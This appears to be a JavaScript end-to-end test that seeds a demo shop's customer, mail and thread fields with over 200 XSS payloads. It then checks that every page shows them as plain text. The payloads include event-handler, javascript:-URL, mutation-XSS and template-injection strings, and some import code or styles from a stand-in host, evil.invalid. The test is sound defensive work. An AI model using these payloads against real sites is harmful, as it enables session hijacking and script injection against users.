// Fault row 72 on the page: what strangers write is shown as text, wherever it is shown.
import assert from 'node:assert/strict'

const acts = ['alert(1)', 'window.ran=1', 'confirm`1`', "import('//evil.invalid/x.js')"]
const shapes = [
  (js) => `<script>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `"><img src=x onerror=${js}>`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  (js) => `<iframe src="javascript:${js}"></iframe>`,
  (js) => `javascript:${js}`,
  (js) => `<a href="javascript:${js}">toque aqui</a>`,
  (js) => `<body onload=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<details open ontoggle=${js}>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<math><mtext></table><mglyph><style><!--</style><img title="--><img src=x onerror=${js}>">`,
  (js) => `<form action="javascript:${js}"><button>Pagar</button></form>`,
  (js) => `<object data="javascript:${js}"></object>`,
  (js) => `<embed src="data:text/html,<script>${js}</script>">`,
  (js) => `<link rel=stylesheet href="//evil.invalid/x.css"><style>@import '//evil.invalid/y.css';</style>${js}`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `<base href="//evil.invalid/">${js}`,
  (js) => `\${${js}}{{constructor.constructor('${js.replaceAll("'", '"')}')()}}`,
  (js) => `{{${js}}} $t(customer.title) {{- name}}`,
  (js) => `&lt;img src=x onerror=${js}&gt;`,
  (js) => `\u202E<img src=x onerror=${js}>\u2066`,
  (js) => `http://evil.invalid/<script>${js}</script>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<template><script>${js}</script></template><x onclick=${js}>`,
]
const hostile = shapes.flatMap((shape) => acts.flatMap((js) => [shape(js), shape(js).toUpperCase().replace(js.toUpperCase(), js)]))

// poison writes them into every field of the example shop that a stranger fills.
const poison = ([list, round]) => {
  const fields = new Set(['name', 'company', 'notes', 'preferred', 'text', 'subject', 'sender', 'preview', 'author', 'street', 'district', 'city'])
  let next = round * 41
  const fill = (at) => {
    if (Array.isArray(at) || at instanceof Map) return at.forEach((x) => fill(x))
    if (!at || typeof at !== 'object') return
    for (const [key, value] of Object.entries(at)) {
      if (typeof value === 'string' && fields.has(key) && value) at[key] = list[next++ % list.length]
      else if (value && typeof value === 'object') fill(value)
    }
  }
  const w = window.world
  for (const part of [w.customers, w.threads, w.mail, w.labels, w.revisions]) fill(part)
  w.emit('bridge:online', {})
}

// grown are elements that only a text taken for markup would have made.
const grown = () =>
  document.querySelectorAll(
    'img[src="x"], [onerror], [onload], [onfocus], [ontoggle], [onbegin], [srcdoc], [href^="javascript:" i], [action^="javascript:" i], base, object, embed, mglyph, script:not([src]), meta[http-equiv="refresh" i]',
  ).length

export const hostileJourneys = {
  'row 72: what strangers write is shown as text': async (page) => {
    const p = await page({ place: 'ajuda' })
    let dialogs = 0
    p.on('dialog', async (d) => {
      dialogs++
      await d.dismiss()
    })
    assert.ok(hostile.length >= 200, `${hostile.length} texts`)
    const ids = await p.evaluate(() => ({
      customer: window.world.customers[1].id,
      threads: [...window.world.threads.values()].slice(0, 6).map((x) => x.row.id),
    }))
    for (let round = 0; round < 6; round++) {
      await p.evaluate(poison, [hostile, round])
      const places = [`atendimento/${ids.threads[round]}`, 'clientes', `clientes/${ids.customer}`, 'clientes/repetidos', 'atendimento/emails', 'fila/failed', 'contingencia', 'ajustes/registro']
      for (const place of places) {
        await p.evaluate((to) => { location.hash = `/${to}` }, place)
        await p.waitForTimeout(350)
        assert.equal(await p.evaluate(grown), 0, `${place} took a text for markup`)
      }
    }
    assert.ok((await p.evaluate(() => document.body.innerText)).length > 100)
    await p.evaluate((id) => { location.hash = `/clientes/${id}` }, ids.customer)
    await p.waitForTimeout(500)
    assert.match(await p.evaluate(() => document.body.innerText), /<\w+[^>]*(onerror|onload|script|javascript)/i, 'nothing hostile was on the screen at all')
    assert.equal(dialogs, 0)
    assert.equal(await p.evaluate(() => window.ran), undefined)
    assert.deepEqual(p.trouble, [])
  },
}
